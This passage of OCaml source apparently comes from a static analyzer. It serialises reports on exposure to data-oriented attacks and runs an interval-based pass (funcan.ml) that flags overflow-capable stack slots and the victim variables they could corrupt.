        let vs = Validate.check ~original:prog h in
        fun fname ->
          List.exists (fun (v : Validate.violation) -> v.func = fname) vs
    | None -> fun _ -> true
  in
  let funcs =
    List.map
      (fun (a : Funcan.t) ->
        let frame =
          match Ir.Prog.find_func prog a.fname with
          | Some f -> (Attacks.Layout.frame_of_func f).frame_bytes
          | None -> 0
        in
        {
          fname = a.fname;
          n_slots = List.length a.slots;
          n_overflow =
            List.length
              (List.filter (fun (s : Funcan.slot) -> s.overflow <> []) a.slots);
          n_victims =
            List.length
              (List.filter (fun (s : Funcan.slot) -> s.roles <> []) a.slots);
          wild_stores = a.wild_stores;
          frame_bytes = frame;
          validated = not (invalidated a.fname);
          leaked_bits = Leakan.leaked_bits_for leakage [ a.fname ];
        })
      analyses
  in
  let defense_names = if score then Score.defense_names else [] in
  { name; funcs; analyses; pairs; defense_names; leakage }

let summary t =
  List.map
    (fun d ->
      let best =
        List.fold_left
          (fun acc sp ->
            match List.assoc_opt d sp.attempts with
            | Some a when a < acc -> a
            | _ -> acc)
          infinity t.pairs
      in
      (d, best))
    t.defense_names

let summary_degraded t =
  List.map
    (fun d ->
      let best =
        List.fold_left
          (fun acc sp ->
            let eff =
              match List.assoc_opt d sp.degraded with
              | Some a -> Some a
              | None -> List.assoc_opt d sp.attempts
            in
            match eff with Some a when a < acc -> a | _ -> acc)
          infinity t.pairs
      in
      (d, best))
    t.defense_names

(* ---------------- tables ---------------- *)

let att_str a =
  if a = infinity then "-" else Format.asprintf "%.3g" a

let to_table t =
  let tt =
    Sutil.Texttable.create
      ~columns:
        (List.map
           (fun c -> (c, Sutil.Texttable.Left))
           [ "kind"; "buffer"; "victim"; "dist"; "roles" ]
        @ List.map (fun c -> (c, Sutil.Texttable.Right)) t.defense_names)
  in
  List.iter
    (fun sp ->
      let p = sp.pair in
      Sutil.Texttable.add_row tt
        ([
           Dop.kind_to_string p.kind;
           p.buf_func ^ ":" ^ p.buf_slot;
           p.victim_func ^ ":" ^ p.victim_slot;
           (match p.static_distance with
           | Some d -> string_of_int d
           | None -> "-");
           String.concat "," (List.map Funcan.role_to_string p.victim_roles);
         ]
        @ List.map
            (fun d ->
              match List.assoc_opt d sp.attempts with
              | Some a -> att_str a
              | None -> "-")
            t.defense_names))
    t.pairs;
  tt

let funcs_table t =
  let tt =
    Sutil.Texttable.create
      ~columns:
        (("function", Sutil.Texttable.Left)
        :: List.map
             (fun c -> (c, Sutil.Texttable.Right))
             [ "slots"; "overflow"; "victims"; "wild stores"; "frame B";
               "validated"; "leak bits" ])
  in
  List.iter
    (fun f ->
      Sutil.Texttable.add_row tt
        [
          f.fname;
          string_of_int f.n_slots;
          string_of_int f.n_overflow;
          string_of_int f.n_victims;
          string_of_int f.wild_stores;
          string_of_int f.frame_bytes;
          (if f.validated then "yes" else "NO");
          (if f.leaked_bits = 0. then "-"
           else Format.asprintf "%.2f" f.leaked_bits);
        ])
    t.funcs;
  tt

let to_text t =
  let buf = Buffer.create 4096 in
  let out fmt = Printf.ksprintf (Buffer.add_string buf) fmt in
  out "DOP attack surface: %s\n\n" t.name;
  out "per-function\n%s\n" (Sutil.Texttable.render (funcs_table t));
  List.iter
    (fun (a : Funcan.t) ->
      List.iter
        (fun (s : Funcan.slot) ->
          if s.overflow <> [] || s.roles <> [] then begin
            out "  %s:%s (%d B at %d): " a.fname s.name s.size s.offset;
            if s.overflow = [] then out "safe"
            else
              out "overflow-capable [%s]"
                (String.concat "; "
                   (List.map Funcan.reason_to_string s.overflow));
            if s.roles <> [] then
              out " roles [%s]"
                (String.concat ", " (List.map Funcan.role_to_string s.roles));
            out "\n"
          end)
        a.slots)
    t.analyses;
  out "\nDOP pairs (%d) — expected attempts per defense\n%s\n"
    (List.length t.pairs)
    (Sutil.Texttable.render (to_table t));
  if t.defense_names <> [] then begin
    out "easiest pair per defense:\n";
    List.iter (fun (d, a) -> out "  %-12s %s\n" d (att_str a)) (summary t)
  end;
  if t.leakage.leaks <> [] then begin
    out "\nlayout leaks (%d flows, %.2f bits total)\n"
      (List.length t.leakage.leaks)
      t.leakage.total_bits;
    List.iter
      (fun l -> out "  %s\n" (Leakan.leak_to_string l))
      t.leakage.leaks;
    List.iter
      (fun (fb : Leakan.func_bits) ->
        out "  %s: %.2f of %.2f frame bits disclosed\n" fb.fname
          fb.leaked_bits fb.frame_bits)
      t.leakage.funcs;
    if t.defense_names <> [] then begin
      out "easiest pair per defense, leak-degraded:\n";
      List.iter
        (fun (d, a) -> out "  %-12s %s\n" d (att_str a))
        (summary_degraded t)
    end
  end;
  Buffer.contents buf

(* ---------------- JSON ---------------- *)

let role_to_json r = J.String (Funcan.role_to_string r)

let role_of_json = function
  | J.String "branch" -> Ok Funcan.Branch_feed
  | J.String "call-target" -> Ok Funcan.Call_target
  | J.String "mem-addr" -> Ok Funcan.Mem_addr
  | J.String "call-arg" -> Ok Funcan.Call_arg
  | J.String "wild-data" -> Ok Funcan.Wild_data
  | j -> Error ("bad role " ^ J.to_string j)

let reason_to_json (r : Funcan.reason) =
  let kind, detail =
    match r with
    | Out_of_extent s -> ("out-of-extent", s)
    | Unbounded_intrinsic s -> ("unbounded-intrinsic", s)
    | Escape s -> ("escape", s)
  in
  J.Obj [ ("kind", J.String kind); ("detail", J.String detail) ]

let reason_of_json j =
  match
    ( Option.bind (J.member "kind" j) J.to_str_opt,
      Option.bind (J.member "detail" j) J.to_str_opt )
  with
  | Some "out-of-extent", Some d -> Ok (Funcan.Out_of_extent d)
  | Some "unbounded-intrinsic", Some d -> Ok (Funcan.Unbounded_intrinsic d)
  | Some "escape", Some d -> Ok (Funcan.Escape d)
  | _ -> Error ("bad reason " ^ J.to_string j)

let slot_to_json (s : Funcan.slot) =
  J.Obj
    [
      ("index", J.Int s.index);
      ("name", J.String s.name);
      ("reg", J.Int s.reg);
      ("ty", J.String (Ir.Ty.to_string s.ty));
      ("size", J.Int s.size);
      ("offset", J.Int s.offset);
      ("overflow", J.List (List.map reason_to_json s.overflow));
      ("roles", J.List (List.map role_to_json s.roles));
    ]

let funcan_to_json (a : Funcan.t) =
  J.Obj
    [
      ("fname", J.String a.fname);
      ("slots", J.List (List.map slot_to_json a.slots));
      ("wild_stores", J.Int a.wild_stores);
      ("heap_stores", J.Int a.heap_stores);
      ("global_overflows", J.List (List.map (fun g -> J.String g) a.global_overflows));
      ("callees", J.List (List.map (fun c -> J.String c) a.callees));
      ("has_call_ind", J.Bool a.has_call_ind);
    ]

let pair_to_json sp =
  let p = sp.pair in
  J.Obj
    ([
       ("pair_id", J.String p.pair_id);
       ("kind", J.String (Dop.kind_to_string p.kind));
       ("buf_func", J.String p.buf_func);
       ("buf_slot", J.String p.buf_slot);
       ("victim_func", J.String p.victim_func);
       ("victim_slot", J.String p.victim_slot);
       ( "static_distance",
         match p.static_distance with Some d -> J.Int d | None -> J.Null );
       ("path", J.List (List.map (fun s -> J.String s) p.path));
       ("victim_roles", J.List (List.map role_to_json p.victim_roles));
       ("reasons", J.List (List.map reason_to_json p.reasons));
       ( "attempts",
         J.Obj (List.map (fun (d, a) -> (d, J.Float a)) sp.attempts) );
     ]
    @
    if sp.degraded = [] then []
    else
      [
        ( "degraded",
          J.Obj (List.map (fun (d, a) -> (d, J.Float a)) sp.degraded) );
      ])

let func_summary_to_json f =
  J.Obj
    [
      ("fname", J.String f.fname);
      ("n_slots", J.Int f.n_slots);
      ("n_overflow", J.Int f.n_overflow);
      ("n_victims", J.Int f.n_victims);
      ("wild_stores", J.Int f.wild_stores);
      ("frame_bytes", J.Int f.frame_bytes);
      ("validated", J.Bool f.validated);
      ("leaked_bits", J.Float f.leaked_bits);
    ]

let leak_to_json (l : Leakan.leak) =
  let sink_kind, sink_arg =
    match l.sink with
    | Leakan.Output s -> ("output", s)
    | Leakan.Global_store s -> ("global-store", s)
    | Leakan.Readable_buffer s -> ("readable-buffer", s)
    | Leakan.Oracle_branch -> ("oracle-branch", "")
  in
  J.Obj
    [
      ("func", J.String l.func);
      ("source_func", J.String l.source_func);
      ("source", J.String (Leakan.source_to_string l.source));
      ("channel", J.String (Leakan.channel_to_string l.channel));
      ("sink", J.String sink_kind);
      ("sink_arg", J.String sink_arg);
      ("bits", J.Float l.bits);
    ]

let leak_func_to_json (fb : Leakan.func_bits) =
  J.Obj
    [
      ("fname", J.String fb.fname);
      ("frame_bits", J.Float fb.frame_bits);
      ("leaked_bits", J.Float fb.leaked_bits);
    ]

let leakage_to_json (lk : Leakan.t) =
  J.Obj
    [
      ("leaks", J.List (List.map leak_to_json lk.leaks));
      ("funcs", J.List (List.map leak_func_to_json lk.funcs));
      ("total_bits", J.Float lk.total_bits);
    ]

let to_json t =
  J.Obj
    [
      ("name", J.String t.name);
      ("defenses", J.List (List.map (fun d -> J.String d) t.defense_names));
      ("funcs", J.List (List.map func_summary_to_json t.funcs));
      ("analyses", J.List (List.map funcan_to_json t.analyses));
      ("pairs", J.List (List.map pair_to_json t.pairs));
      ("leakage", leakage_to_json t.leakage);
      ( "summary",
        J.Obj (List.map (fun (d, a) -> (d, J.Float a)) (summary t)) );
      ( "summary_degraded",
        J.Obj (List.map (fun (d, a) -> (d, J.Float a)) (summary_degraded t)) );
    ]

(* -------- parsing (the round-trip direction) -------- *)

let ( let* ) = Result.bind

let rec map_result f = function
  | [] -> Ok []
  | x :: xs ->
      let* y = f x in
      let* ys = map_result f xs in
      Ok (y :: ys)

let need what o = Option.to_result ~none:("missing " ^ what) o
let str_field k j = need k (Option.bind (J.member k j) J.to_str_opt)
let int_field k j = need k (Option.bind (J.member k j) J.to_int_opt)
let list_field k j = Option.fold ~none:[] ~some:J.to_list (J.member k j)

let bool_field k j =
  match J.member k j with Some (J.Bool b) -> Ok b | _ -> Error ("missing " ^ k)

let ty_of_size size =
  if size = 1 then Ir.Ty.I8
  else if size = 2 then Ir.Ty.I16
  else if size = 4 then Ir.Ty.I32
  else if size = 8 then Ir.Ty.I64
  else Ir.Ty.Array (Ir.Ty.I8, size)

(* Inverse of [Ir.Ty.to_string] for the forms a slot can carry.  Struct
   display names don't record their fields, so those (and anything else
   unparseable) fall back to a type of the right extent. *)
let rec ty_of_string ~size s =
  match s with
  | "i1" -> Ir.Ty.I1
  | "i8" -> Ir.Ty.I8
  | "i16" -> Ir.Ty.I16
  | "i32" -> Ir.Ty.I32
  | "i64" -> Ir.Ty.I64
  | "ptr" -> Ir.Ty.Ptr
  | _ -> (
      match Scanf.sscanf_opt s "[%d x %[^]]]" (fun n elt -> (n, elt)) with
      | Some (n, elt) when n > 0 ->
          Ir.Ty.Array (ty_of_string ~size:(size / n) elt, n)
      | _ -> ty_of_size size)

let slot_of_json j =
  let* index = int_field "index" j in
  let* name = str_field "name" j in
  let* reg = int_field "reg" j in
  let* ty_s = str_field "ty" j in
  let* size = int_field "size" j in
  let* offset = int_field "offset" j in
  let* overflow = map_result reason_of_json (list_field "overflow" j) in
  let* roles = map_result role_of_json (list_field "roles" j) in
  Ok
    {
      Funcan.index;
      name;
      reg;
      ty = ty_of_string ~size ty_s;
      size;
      offset;
      overflow;
      roles;
    }

let funcan_of_json j =
  let* fname = str_field "fname" j in
  let* slots = map_result slot_of_json (list_field "slots" j) in
  let* wild_stores = int_field "wild_stores" j in
  let* heap_stores = int_field "heap_stores" j in
  let* global_overflows =
    map_result
      (fun x -> need "global" (J.to_str_opt x))
      (list_field "global_overflows" j)
  in
  let* callees =
    map_result (fun x -> need "callee" (J.to_str_opt x)) (list_field "callees" j)
  in
  let* has_call_ind = bool_field "has_call_ind" j in
  Ok
    {
      Funcan.fname;
      slots;
      wild_stores;
      heap_stores;
      global_overflows;
      callees;
      has_call_ind;
    }

let kind_of_string = function
  | "same-frame" -> Ok Dop.Same_frame
  | "cross-frame" -> Ok Dop.Cross_frame
  | "wild-write" -> Ok Dop.Wild_write
  | s -> Error ("bad kind " ^ s)

let pair_of_json j =
  let* kind = Result.bind (str_field "kind" j) kind_of_string in
  let* buf_func = str_field "buf_func" j in
  let* buf_slot = str_field "buf_slot" j in
  let* victim_func = str_field "victim_func" j in
  let* victim_slot = str_field "victim_slot" j in
  let static_distance =
    Option.bind (J.member "static_distance" j) J.to_int_opt
  in
  let* path =
    map_result (fun x -> need "path" (J.to_str_opt x)) (list_field "path" j)
  in
  let* victim_roles = map_result role_of_json (list_field "victim_roles" j) in
  let* reasons = map_result reason_of_json (list_field "reasons" j) in
  let float_assoc key =
    match J.member key j with
    | Some (J.Obj kvs) ->
        map_result
          (fun (d, v) ->
            let* a = need (key ^ "." ^ d) (J.to_float_opt v) in
            Ok (d, a))
          kvs
    | _ -> Ok []
  in
  let* attempts = float_assoc "attempts" in
  let* degraded = float_assoc "degraded" in
  (* Documents written before pair ids existed lack the field; the
     digest is a pure function of the tuple, so recomputing it is both
     the backward-compatible path and a consistency check for documents
     that do carry one. *)
  let pair_id =
    match J.member "pair_id" j with
    | Some (J.String id) -> id
    | _ ->
        Dop.compute_pair_id ~kind ~buf_func ~buf_slot ~victim_func
          ~victim_slot ~static_distance ~path
  in
  Ok
    {
      pair =
        {
          Dop.pair_id;
          kind;
          buf_func;
          buf_slot;
          victim_func;
          victim_slot;
          static_distance;
          path;
          victim_roles;
          reasons;
        };
      attempts;
      degraded;
    }

let float_field_opt ~default k j =
  Option.fold ~none:default ~some:Fun.id
    (Option.bind (J.member k j) J.to_float_opt)

let func_summary_of_json j =
  let* fname = str_field "fname" j in
  let* n_slots = int_field "n_slots" j in
  let* n_overflow = int_field "n_overflow" j in
  let* n_victims = int_field "n_victims" j in
  let* wild_stores = int_field "wild_stores" j in
  let* frame_bytes = int_field "frame_bytes" j in
  let* validated = bool_field "validated" j in
  (* documents written before the leak analyzer existed lack the field *)
  let leaked_bits = float_field_opt ~default:0. "leaked_bits" j in
  Ok
    { fname; n_slots; n_overflow; n_victims; wild_stores; frame_bytes;
      validated; leaked_bits }

let source_of_string s : (Leakan.source, string) result =
  match s with
  | "rand-draw" -> Ok Leakan.Rand_draw
  | "pbox-row" -> Ok Leakan.Pbox_row
  | "slice-addr" -> Ok Leakan.Slice_addr
  | s when String.length s > 1 && s.[0] = '&' ->
      Ok (Leakan.Slot_addr (String.sub s 1 (String.length s - 1)))
  | s -> Error ("bad leak source " ^ s)

let channel_of_string = function
  | "direct-value" -> Ok Leakan.Direct_value
  | "address-disclosure" -> Ok Leakan.Address_disclosure
  | "comparison-oracle" -> Ok Leakan.Comparison_oracle
  | s -> Error ("bad leak channel " ^ s)

let leak_of_json j =
  let* func = str_field "func" j in
  let* source_func = str_field "source_func" j in
  let* source = Result.bind (str_field "source" j) source_of_string in
  let* channel = Result.bind (str_field "channel" j) channel_of_string in
  let* sink_kind = str_field "sink" j in
  let sink_arg =
    Option.value ~default:""
      (Option.bind (J.member "sink_arg" j) J.to_str_opt)
  in
  let* sink =
    match sink_kind with
    | "output" -> Ok (Leakan.Output sink_arg)
    | "global-store" -> Ok (Leakan.Global_store sink_arg)
    | "readable-buffer" -> Ok (Leakan.Readable_buffer sink_arg)
    | "oracle-branch" -> Ok Leakan.Oracle_branch
    | s -> Error ("bad leak sink " ^ s)
  in
  let bits = float_field_opt ~default:0. "bits" j in
  Ok { Leakan.func; source_func; source; channel; sink; bits }

let leak_func_of_json j =
  let* fname = str_field "fname" j in
  let frame_bits = float_field_opt ~default:0. "frame_bits" j in
  let leaked_bits = float_field_opt ~default:0. "leaked_bits" j in
  Ok { Leakan.fname; frame_bits; leaked_bits }

let leakage_of_json j : (Leakan.t, string) result =
  match j with
  | None -> Ok { Leakan.leaks = []; funcs = []; total_bits = 0. }
  | Some j ->
      let* leaks = map_result leak_of_json (list_field "leaks" j) in
      let* funcs = map_result leak_func_of_json (list_field "funcs" j) in
      let total_bits = float_field_opt ~default:0. "total_bits" j in
      Ok { Leakan.leaks; funcs; total_bits }

let of_json j =
  let* name = str_field "name" j in
  let* defense_names =
    map_result
      (fun x -> need "defense" (J.to_str_opt x))
      (list_field "defenses" j)
  in
  let* funcs = map_result func_summary_of_json (list_field "funcs" j) in
  let* analyses = map_result funcan_of_json (list_field "analyses" j) in
  let* pairs = map_result pair_of_json (list_field "pairs" j) in
  let* leakage = leakage_of_json (J.member "leakage" j) in
  Ok { name; funcs; analyses; pairs; defense_names; leakage }
