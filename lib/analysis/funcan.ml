module Imap = Map.Make (Int)

type reason =
  | Out_of_extent of string
  | Unbounded_intrinsic of string
  | Escape of string

type role = Branch_feed | Call_target | Mem_addr | Call_arg | Wild_data

type slot = {
  index : int;
  name : string;
  reg : Ir.Instr.reg;
  ty : Ir.Ty.t;
  size : int;
  offset : int;
  overflow : reason list;
  roles : role list;
}

type t = {
  fname : string;
  slots : slot list;
  wild_stores : int;
  heap_stores : int;
  global_overflows : string list;
  callees : string list;
  has_call_ind : bool;
}

let reason_to_string = function
  | Out_of_extent site -> "out-of-extent store (" ^ site ^ ")"
  | Unbounded_intrinsic name -> "unbounded " ^ name ^ " write"
  | Escape how -> "address escapes (" ^ how ^ ")"

let role_to_string = function
  | Branch_feed -> "branch"
  | Call_target -> "call-target"
  | Mem_addr -> "mem-addr"
  | Call_arg -> "call-arg"
  | Wild_data -> "wild-data"

(* ------------------------------------------------------------------ *)
(* Address provenance                                                  *)

type aroot = Rslot of int | Rglobal of string | Rheap | Rparam | Runknown
type ainfo = { root : aroot; aoff : Interval.t }

let unknown_addr = { root = Runknown; aoff = Interval.top }

type env = {
  regs : Interval.t Imap.t;
  addrs : ainfo Imap.t;
  slots : Interval.t Imap.t;  (** tracked slot reg -> abstract contents *)
  slotval : int Imap.t;  (** slot reg -> reg holding its freshest value *)
  cmps : (Ir.Instr.icmp * Ir.Instr.operand * Ir.Instr.operand) Imap.t;
}

type event =
  | Ev_overflow of Ir.Instr.reg * reason
  | Ev_global_overflow of string
  | Ev_wild_store of Ir.Instr.reg option  (** value reg, for taint *)
  | Ev_heap_store
  | Ev_load of Ir.Instr.reg * Ir.Instr.reg  (** slot reg -> load dst *)
  | Ev_store_edge of Ir.Instr.reg * Ir.Instr.reg  (** value reg -> slot *)

(* builtins the VM executes via Call-to-extern; everything else that is
   extern is an unknown callee *)
let writer_builtins =
  [ "memcpy"; "memset"; "strncpy"; "strcpy"; "snprintf_cat"; "read_input" ]

let readonly_builtins =
  [
    "memcmp"; "strlen"; "print_int"; "print_char"; "print_str";
    "print_newline"; "input_byte"; "exit"; "abort"; "free";
  ]

let env_equal a b =
  Imap.equal Interval.equal a.regs b.regs
  && Imap.equal
       (fun x y -> x.root = y.root && Interval.equal x.aoff y.aoff)
       a.addrs b.addrs
  && Imap.equal Interval.equal a.slots b.slots
  && Imap.equal Int.equal a.slotval b.slotval
  && Imap.equal ( = ) a.cmps b.cmps

let swap_icmp : Ir.Instr.icmp -> Ir.Instr.icmp option = function
  | Eq -> Some Eq
  | Ne -> Some Ne
  | Slt -> Some Sgt
  | Sle -> Some Sge
  | Sgt -> Some Slt
  | Sge -> Some Sle
  | Ult | Ule -> None

let binop_itv (op : Ir.Instr.binop) a b =
  match op with
  | Add -> Interval.add a b
  | Sub -> Interval.sub a b
  | Mul -> Interval.mul a b
  | Sdiv -> Interval.sdiv a b
  | Udiv -> Interval.udiv a b
  | Srem -> Interval.srem a b
  | Urem -> Interval.urem a b
  | And -> Interval.logand a b
  | Or -> Interval.logor a b
  | Xor -> Interval.logxor a b
  | Shl -> Interval.shl a b
  | Lshr -> Interval.lshr a b
  | Ashr -> Interval.ashr a b

let analyze_func (prog : Ir.Prog.t) (f : Ir.Func.t) =
  let cfg = Ir.Cfg.of_func f in
  let frame = Attacks.Layout.frame_of_func f in
  (* static slots: entry-block fixed-size allocas, program order (the
     index doubles as the P-BOX column index) *)
  let static_slots =
    match f.blocks with
    | [] -> []
    | entry :: _ ->
        List.filter_map
          (function
            | Ir.Instr.Alloca { dst; ty; count = None; name } ->
                Some (dst, ty, name)
            | _ -> None)
          entry.instrs
  in
  let slot_size =
    let h = Hashtbl.create 8 in
    List.iter
      (fun (r, ty, _) -> Hashtbl.replace h r (Ir.Ty.size ty))
      static_slots;
    fun r -> Hashtbl.find_opt h r
  in
  let is_slot r = slot_size r <> None in
  (* ---------------- trackability prescan ---------------- *)
  (* a slot is interval-tracked iff it is scalar and its address is only
     ever used directly as a load/store address *)
  let tracked = Hashtbl.create 8 in
  List.iter
    (fun (r, ty, _) ->
      if Ir.Ty.is_scalar ty && ty <> Ir.Ty.Ptr then Hashtbl.replace tracked r ())
    static_slots;
  let untrack op =
    match op with
    | Ir.Instr.Reg r -> Hashtbl.remove tracked r
    | _ -> ()
  in
  let prescan_instr (i : Ir.Instr.t) =
    match i with
    | Load { addr = Reg _; _ } -> ()
    | Load { addr = _; _ } -> ()
    | Store { value; addr = _; _ } -> untrack value
    | _ -> List.iter untrack (Ir.Instr.operands i)
  in
  List.iter
    (fun (b : Ir.Func.block) ->
      List.iter prescan_instr b.instrs;
      List.iter untrack (Ir.Instr.terminator_operands b.term))
    f.blocks;
  let width_of_tracked r =
    match slot_size r with Some s -> s | None -> 0
  in
  (* ---------------- abstract evaluation ---------------- *)
  let eval env = function
    | Ir.Instr.Imm i -> Interval.const i
    | Ir.Instr.Reg r -> (
        match Imap.find_opt r env.regs with Some v -> v | None -> Interval.top)
    | Ir.Instr.Global _ | Ir.Instr.Func_ref _ -> Interval.top
  in
  let aeval env = function
    | Ir.Instr.Reg r -> (
        match Imap.find_opt r env.addrs with
        | Some a -> a
        | None -> unknown_addr)
    | Ir.Instr.Global g -> { root = Rglobal g; aoff = Interval.const 0L }
    | Ir.Instr.Imm _ | Ir.Instr.Func_ref _ -> unknown_addr
  in
  let set_reg env r itv ai =
    {
      env with
      regs = Imap.add r itv env.regs;
      addrs =
        (if ai.root = Runknown && Interval.is_top ai.aoff then
           Imap.remove r env.addrs
         else Imap.add r ai env.addrs);
      slotval = Imap.filter (fun _ v -> v <> r) env.slotval;
      cmps = Imap.remove r env.cmps;
    }
  in
  let havoc env =
    {
      env with
      slots = Imap.map (fun _ -> Interval.top) env.slots;
      slotval = Imap.empty;
    }
  in
  let global_size g =
    match Ir.Prog.find_global prog g with
    | Some gl -> Some (Ir.Ty.size gl.gty)
    | None -> None
  in
  (* escape of a slot-rooted operand at a provenance-losing position *)
  let escape_of emit env ~how op =
    match aeval env op with
    | { root = Rslot s; _ } when is_slot s -> emit (Ev_overflow (s, Escape how))
    | _ -> ()
  in
  let site_of blabel = "block " ^ blabel in
  (* a bulk write of [len] bytes starting at [a] *)
  let check_bulk_write emit ~builtin a len =
    let len =
      match (len : Interval.t).lo with
      | Some l when Int64.compare l 0L >= 0 -> len
      | _ -> Interval.top (* size_t: possibly-negative length is huge *)
    in
    let fits extent =
      match (a.aoff.lo, a.aoff.hi, len.hi) with
      | Some ol, Some oh, Some lh ->
          Int64.compare ol 0L >= 0
          && Int64.compare (Int64.add oh lh) (Int64.of_int extent) <= 0
      | _ -> false
    in
    match a.root with
    | Rslot s when is_slot s ->
        let extent = Option.get (slot_size s) in
        if not (fits extent) then begin
          emit (Ev_overflow (s, Unbounded_intrinsic builtin));
          true (* havoc *)
        end
        else false
    | Rslot _ -> false (* VLA-rooted: handled as wild below via aeval *)
    | Rglobal g ->
        (match global_size g with
        | Some extent when fits extent -> ()
        | _ -> emit (Ev_global_overflow g));
        false
    | Rheap ->
        emit Ev_heap_store;
        false
    | Rparam | Runknown ->
        emit (Ev_wild_store None);
        true
  in
  (* ---------------- transfer function ---------------- *)
  let transfer_instr emit blabel env (i : Ir.Instr.t) =
    match i with
    | Alloca { dst; count; _ } ->
        let ai =
          match count with
          | None when is_slot dst -> { root = Rslot dst; aoff = Interval.const 0L }
          | _ -> unknown_addr (* VLAs: writes through them count as wild *)
        in
        let env = set_reg env dst Interval.top ai in
        if count = None && Hashtbl.mem tracked dst then
          { env with slots = Imap.add dst Interval.top env.slots }
        else env
    | Load { dst; ty; addr } ->
        let a = aeval env addr in
        let width = Ir.Ty.size ty in
        let itv, fresh_of =
          match a.root with
          | Rslot s
            when Hashtbl.mem tracked s
                 && Interval.equal a.aoff (Interval.const 0L)
                 && width = width_of_tracked s ->
              let v =
                match Imap.find_opt s env.slots with
                | Some v -> v
                | None -> Interval.top
              in
              (v, Some s)
          | _ -> (Interval.of_load ~width, None)
        in
        (match a.root with
        | Rslot s when is_slot s -> emit (Ev_load (s, dst))
        | _ -> ());
        let env = set_reg env dst itv unknown_addr in
        (match fresh_of with
        | Some s -> { env with slotval = Imap.add s dst env.slotval }
        | None -> env)
    | Store { ty; value; addr } ->
        let width = Ir.Ty.size ty in
        let a = aeval env addr in
        let v_itv = eval env value in
        (* storing a local's address to memory is an escape *)
        escape_of emit env ~how:"address stored to memory" value;
        (match value with
        | Reg v -> (
            match a.root with
            | Rslot s when is_slot s -> emit (Ev_store_edge (v, s))
            | _ -> ())
        | _ -> ());
        let in_extent extent =
          Interval.contains a.aoff ~lo:0L ~hi:(Int64.of_int (extent - width))
        in
        (match a.root with
        | Rslot s when is_slot s ->
            let extent = Option.get (slot_size s) in
            if extent >= width && in_extent extent then
              if not (Hashtbl.mem tracked s) then env
              else if
                Interval.equal a.aoff (Interval.const 0L)
                && width = width_of_tracked s
              then
                let env =
                  {
                    env with
                    slots =
                      Imap.add s (Interval.store_narrow ~width v_itv) env.slots;
                  }
                in
                (match value with
                | Reg v when width = 8 ->
                    { env with slotval = Imap.add s v env.slotval }
                | _ -> { env with slotval = Imap.remove s env.slotval })
              else
                {
                  env with
                  slots = Imap.add s Interval.top env.slots;
                  slotval = Imap.remove s env.slotval;
                }
            else begin
              emit (Ev_overflow (s, Out_of_extent (site_of blabel)));
              havoc env
            end
        | Rslot _ ->
            (* store through a VLA base *)
            emit (Ev_wild_store (match value with Reg v -> Some v | _ -> None));
            havoc env
        | Rglobal g ->
            (match global_size g with
            | Some extent when extent >= width && in_extent extent -> ()
            | _ -> emit (Ev_global_overflow g));
            env
        | Rheap ->
            emit Ev_heap_store;
            env
        | Rparam | Runknown ->
            emit (Ev_wild_store (match value with Reg v -> Some v | _ -> None));
            havoc env)
    | Gep { dst; base; offset; index } ->
        let ab = aeval env base in
        let off =
          let o = Interval.add ab.aoff (Interval.const (Int64.of_int offset)) in
          match index with
          | None -> o
          | Some (idx, scale) ->
              Interval.add o
                (Interval.mul (eval env idx) (Interval.const (Int64.of_int scale)))
        in
        set_reg env dst Interval.top { root = ab.root; aoff = off }
    | Binop { dst; op; lhs; rhs } ->
        let itv = binop_itv op (eval env lhs) (eval env rhs) in
        let la = aeval env lhs and ra = aeval env rhs in
        let rooted a = a.root <> Runknown in
        let ai =
          match op with
          | Add -> (
              match (rooted la, rooted ra) with
              | true, false ->
                  { root = la.root; aoff = Interval.add la.aoff (eval env rhs) }
              | false, true ->
                  { root = ra.root; aoff = Interval.add ra.aoff (eval env lhs) }
              | true, true ->
                  escape_of emit env ~how:"pointer arithmetic" lhs;
                  escape_of emit env ~how:"pointer arithmetic" rhs;
                  unknown_addr
              | false, false -> unknown_addr)
          | Sub -> (
              match (rooted la, rooted ra) with
              | true, false ->
                  { root = la.root; aoff = Interval.sub la.aoff (eval env rhs) }
              | _, true ->
                  escape_of emit env ~how:"pointer arithmetic" lhs;
                  escape_of emit env ~how:"pointer arithmetic" rhs;
                  unknown_addr
              | _ -> unknown_addr)
          | _ ->
              escape_of emit env ~how:"address laundered" lhs;
              escape_of emit env ~how:"address laundered" rhs;
              unknown_addr
        in
        set_reg env dst itv ai
    | Icmp { dst; op; lhs; rhs } ->
        let env = set_reg env dst (Interval.of_bounds 0L 1L) unknown_addr in
        { env with cmps = Imap.add dst (op, lhs, rhs) env.cmps }
    | Select { dst; cond = _; if_true; if_false } ->
        let itv = Interval.join (eval env if_true) (eval env if_false) in
        let ta = aeval env if_true and fa = aeval env if_false in
        let ai =
          if ta.root = fa.root then
            { root = ta.root; aoff = Interval.join ta.aoff fa.aoff }
          else begin
            escape_of emit env ~how:"select mixes roots" if_true;
            escape_of emit env ~how:"select mixes roots" if_false;
            unknown_addr
          end
        in
        set_reg env dst itv ai
    | Sext { dst; width; value } ->
        let ai = if width >= 8 then aeval env value else unknown_addr in
        if width < 8 then escape_of emit env ~how:"narrowing cast" value;
        set_reg env dst (Interval.sext ~width (eval env value)) ai
    | Trunc { dst; width; value } ->
        let ai = if width >= 8 then aeval env value else unknown_addr in
        if width < 8 then escape_of emit env ~how:"narrowing cast" value;
        set_reg env dst (Interval.zext ~width (eval env value)) ai
    | Call { dst; callee; args } ->
        let arg i = List.nth_opt args i in
        let is_builtin =
          Ir.Prog.is_extern prog callee
          && (List.mem callee writer_builtins
             || List.mem callee readonly_builtins)
        in
        let env =
          if is_builtin then begin
            (match callee with
            | "memcpy" | "memset" | "strncpy" -> (
                match (arg 0, arg 2) with
                | Some dst_op, Some len_op ->
                    if
                      check_bulk_write emit ~builtin:callee
                        (aeval env dst_op) (eval env len_op)
                    then havoc env
                    else env
                | _ -> env)
            | "read_input" | "snprintf_cat" -> (
                match (arg 0, arg 1) with
                | Some dst_op, Some len_op ->
                    if
                      check_bulk_write emit ~builtin:callee
                        (aeval env dst_op) (eval env len_op)
                    then havoc env
                    else env
                | _ -> env)
            | "strcpy" -> (
                match (arg 0, arg 1) with
                | Some dst_op, Some src_op ->
                    let len =
                      match aeval env src_op with
                      | { root = Rglobal g; aoff }
                        when Interval.equal aoff (Interval.const 0L) -> (
                          match Ir.Prog.find_global prog g with
                          | Some gl ->
                              let l =
                                match String.index_opt gl.ginit '\000' with
                                | Some i -> i
                                | None -> String.length gl.ginit
                              in
                              Interval.const (Int64.of_int (l + 1))
                          | None -> Interval.top)
                      | _ -> Interval.top
                    in
                    if
                      check_bulk_write emit ~builtin:callee
                        (aeval env dst_op) len
                    then havoc env
                    else env
